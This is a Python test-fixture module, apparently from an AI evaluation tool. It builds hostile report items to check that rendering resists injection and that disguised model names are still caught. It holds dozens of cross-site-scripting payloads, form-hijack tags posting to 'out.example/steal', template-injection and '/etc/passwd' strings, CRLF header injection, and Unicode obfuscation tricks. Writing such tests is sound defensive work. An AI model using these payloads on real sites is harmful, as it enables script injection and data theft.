"""Items that try whatever a report can: to run, to load, to break out, to tell whose they are."""

import random
from typing import Final

from deepassay.runfile.questions import TEXT, Choice, Item, Opinion, Passage, Question, Shown

NAMES = ("nightjar", "gpt-researcher-x", "豆包深研", "o3q", "openai:goshawk", "goshawk")
SECRET = "9.4871"
"""A mark that the judge gave."""

RUN = "window.pwned=1"
OUT = "https://out.example"
TRIES = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={OUT}/a.js></sCrIpT>",
    f"<script type=module>import '{OUT}/m.js'</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<img src=x onerror={RUN}>",
    f'"><img src={OUT}/i.png onload={RUN}>',
    f"<svg onload={RUN}><image href={OUT}/s.png /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<iframe src='javascript:{RUN}'></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object><embed src={OUT}/e>",
    f"<video autoplay onplay={RUN}><source src={OUT}/v.mp4></video><audio src={OUT}/a.mp3>",
    f"<body onload={RUN}><input autofocus onfocus={RUN}><details open ontoggle={RUN}>",
    f"<form action={OUT}/steal><button autofocus>Save</button></form></form>",
    f"</form><form id=rating action={OUT}><input name=key value=x>",
    f"</article></main></div></body><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</legend></fieldset></form><script>{RUN}</script>",
    f"<base href={OUT}><meta http-equiv=refresh content='0;url={OUT}'>",
    f"<link rel=stylesheet href={OUT}/c.css><link rel=prefetch href={OUT}/p>",
    f"<style>@import url({OUT}/c.css); * {{ background: url({OUT}/b.png) }}</style>",
    f"<p style='background:url({OUT}/b.png);position:fixed;inset:0'>over</p>",
    f"<!--><script>{RUN}</script>--> <![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><?php {RUN} ?>",
    f"[a](javascript:{RUN}) [b](JaVaScRiPt:{RUN})",
    f"[c](java\tscript:{RUN}) [d](\x01javascript:{RUN})",
    f"[e](javascript&colon;{RUN}) [f](&#106;avascript:{RUN}) [g](vbscript:x) [h](file:///etc/passwd)",
    f"[i](data:text/html,<script>{RUN}</script>) [j](data:image/svg+xml;base64,PHN2Zz4=)",
    "[k](//out.example/k) [l](/decisions.csv) [m](?x) [n](mailto:a@b.example)",
    f"<javascript:{RUN}> <data:text/html,x> [l]: javascript:{RUN}\n\n[l]\n",
    f"![p]({OUT}/p.png) ![q](data:image/png;base64,AAAA) ![r][r]\n\n[r]: {OUT}/r.png\n",
    f'[t](https://a.example "" onmouseover={RUN} x="") <https://a.example/"onfocus={RUN}>',
    f"[u](https://a.example/\"onmouseover={RUN}) [v]('onclick={RUN})",
    f"`<script>{RUN}</script>`\n\n```html\n<script>{RUN}</script>\n```\n",
    f"text\n\n    <script>{RUN}</script>\n",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | ![x]({OUT}/t.png) |\n",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "\u202etxt.exe\u202c \u2066\u2067 \u200f abc \x00 \x1b[31m \u2028 \u2029 \ufeff \ud7ff",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>x</script>",
    ">" * 400 + " deep " + "[" * 2000 + "*" * 2000 + "_a" * 1000,
    "- " * 300 + "x\n" + "# " * 50 + "\n" + "~" * 3000,
    "|" + " a |" * 60 + "\n|" + "---|" * 60 + "\n" + ("|" + " b |" * 60 + "\n") * 60,
    "x" * 30_000 + " " + "字" * 10_000 + " " + "&amp;" * 2000,
)
DISGUISES = (
    lambda name: name,
    str.upper,
    str.title,
    lambda name: f"**{name[:3]}**{name[3:]}",
    lambda name: f"{name[:2]}*{name[2:]}*",
    lambda name: name[:2] + "\u200b" + name[2:],
    lambda name: name[:1] + "\u00ad" + name[1:],
    lambda name: name[:2] + "\u202e" + name[2:],
    lambda name: name[:2] + "\x00" + name[2:],
    lambda name: "".join(f"&#{ord(each)};" for each in name),
    lambda name: "".join(f"&amp;#x{ord(each):x};" for each in name),
    lambda name: "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in name),
    lambda name: name.translate(str.maketrans("aeopcxi", "аеорсхі")),
    lambda name: name.replace("-", "\\_").replace(":", " "),
    lambda name: f"{name[:2]}<wbr>{name[2:]}",
    lambda name: f"[{name[:2]}](https://a.example/x){name[2:]}",
    lambda name: f"https://a.example/?utm_source={name}&utm_medium=x",
    lambda name: f"https://{''.join(f'%{byte:02X}' for byte in name.encode())}.example/",
    lambda name: f"<!-- {name} --> <meta author='{name}'>",
    lambda name: f"# {name}\n\n[1] {name}, https://{name.replace(':', '.')}.example/report\n",
)


def hostile_items() -> list[Item]:
    """Reports in pairs: each has a try of its own, and tells some names in some of the disguises.

    What is asked, quoted and cited has tries too: of all items together all but the long ones.
    """
    rng = random.Random(7)
    disguised = [disguise(name) for name in NAMES for disguise in DISGUISES]
    short = rng.sample(TRIES[:-5], len(TRIES) - 5) + rng.sample(TRIES[:-5], 5)

    def report(number: int) -> tuple[str, str]:
        bad, also = TRIES[number], short[number]
        told = [disguised[(3 * number + place) % len(disguised)] for place in range(3)]
        text = f"# Report\n\n{bad}\n\nWritten by {told[0]} today.\n\n{also}\n\nBy ({told[1]}).\n\n"
        return f"{text}Or by {told[2]}.\n", f"{also} {told[0]}"

    found = []
    for number in range(len(TRIES) // 2):
        (text, said), (rival, more) = report(2 * number), report(2 * number + 1)
        found.append(
            Item(
                task=f"t{number}",
                agent=NAMES[number % 4],
                language="zh" if number % 2 else "en",
                prompt=f"Why? {said} {more}",
                report=text,
                rival=rival,
                questions=(_question(f"{said} {more}"), _MARKING),
            )
        )
    return found


_MARKING: Final = Question(
    protocol="marked",
    text=f"Mark it. {TRIES[0]}",
    labels=(Choice(value="bad", en=TRIES[0], zh=TRIES[0]), "other"),
)


def _question(bad: str) -> Question:
    return Question(
        protocol="fact",
        item="s1",
        text=f"Is it so? {bad}",
        quote=bad,
        passage=Passage(url=f"javascript:{RUN}", title=bad, text=bad),
        shown=(Shown(label="Said", text=bad),),
        menu=("yes", Choice(value="no", en="no", zh="否", version="may", comment="may")),
        boxes=(TEXT,),
        given=({"text": TRIES[0]},),
        opinions=(Opinion(judge="openai:goshawk", verdict="no", reason=f"I gave {SECRET}"),),
    )
